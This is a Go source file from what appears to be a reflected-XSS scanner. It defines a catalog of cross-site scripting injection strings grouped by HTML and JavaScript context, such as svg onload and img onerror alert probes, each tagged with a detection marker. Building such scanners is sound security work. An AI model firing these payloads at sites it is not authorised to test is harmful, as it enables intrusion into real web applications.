// Package payloads holds the static table of context-tagged injection
// strings. Every payload embeds the same marker so reflection detection
// reduces to a substring search.
package payloads

import (
	"errors"

	"github.com/Nishanath123/rxss-scanner/pkg/models"
)

// Marker is the token embedded in every payload. It is alphanumeric
// (plus underscores) so it survives URL encoding and HTML serialization
// unchanged, and unusual enough not to occur in ordinary page content.
const Marker = "VIPRA_XSS_9797"

// ErrUnknownContext is returned when a caller requests a payload bucket
// for a label outside the recognized context set.
var ErrUnknownContext = errors.New("unknown payload context")

// Payload is one injection string tagged with the markup context it is
// designed to break out into.
type Payload struct {
	Value   string
	Context models.Context
}

// Catalog is the immutable payload table. Build one with NewCatalog;
// the zero value is empty.
type Catalog struct {
	buckets map[models.Context][]Payload
	marker  string
}

// NewCatalog builds the default catalog. Bucket contents are grouped by
// intended breakout context so callers can scope a scan to contexts
// likely to apply without touching detection logic.
func NewCatalog() *Catalog {
	c := &Catalog{
		buckets: make(map[models.Context][]Payload),
		marker:  Marker,
	}

	add := func(ctx models.Context, values ...string) {
		for _, v := range values {
			c.buckets[ctx] = append(c.buckets[ctx], Payload{Value: v, Context: ctx})
		}
	}

	add(models.ContextText,
		Marker,
		"<!-- "+Marker+" -->",
	)
	add(models.ContextAttributeValue,
		`"><svg onload=alert('`+Marker+`')>`,
		`' onmouseover=alert('`+Marker+`') x='`,
	)
	add(models.ContextAttributeName,
		Marker+`=1`,
		` `+Marker+`=alert(1)`,
	)
	add(models.ContextJSString,
		`';alert('`+Marker+`');//`,
		`";alert("`+Marker+`");//`,
	)
	add(models.ContextTagName,
		`<`+Marker+`x>`,
		`<img src=x onerror=alert('`+Marker+`')>`,
		`<svg onload=alert('`+Marker+`')>`,
	)

	return c
}

// ForContext returns the payload bucket for the given context, in stable
// insertion order. Callers must not assume any priority ordering beyond
// stability.
func (c *Catalog) ForContext(ctx models.Context) ([]Payload, error) {
	if !ctx.Valid() {
		return nil, ErrUnknownContext
	}
	bucket := c.buckets[ctx]
	out := make([]Payload, len(bucket))
	copy(out, bucket)
	return out, nil
}

// All returns every payload, concatenated in declared bucket order:
// text, attribute_value, attribute_name, js_string, tag_name.
func (c *Catalog) All() []Payload {
	var out []Payload
	for _, ctx := range models.Contexts {
		out = append(out, c.buckets[ctx]...)
	}
	return out
}

// Marker returns the shared marker constant.
func (c *Catalog) Marker() string {
	return c.marker
}
